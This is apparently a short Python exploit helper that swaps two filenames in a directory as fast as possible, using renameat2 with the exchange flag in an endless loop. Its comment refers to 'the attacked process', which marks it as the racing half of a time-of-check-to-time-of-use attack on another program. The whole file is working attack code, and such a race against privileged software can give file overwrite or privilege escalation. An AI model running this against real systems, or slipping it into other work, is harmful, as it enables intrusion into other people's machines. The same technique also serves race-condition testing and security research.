"""Exchange two names as fast as the kernel allows, until killed; argv: the directory of both, and the names."""

import ctypes
import os
import sys

_EXCHANGE = 2
_libc = ctypes.CDLL(None, use_errno=True)
_directory = os.open(sys.argv[1], os.O_PATH | os.O_DIRECTORY)
_names = [name.encode() for name in sys.argv[2:4]]
while True:
    # Fails while one of them is missing, for a moment of the attacked process's work.
    _libc.renameat2(_directory, _names[0], _directory, _names[1], _EXCHANGE)
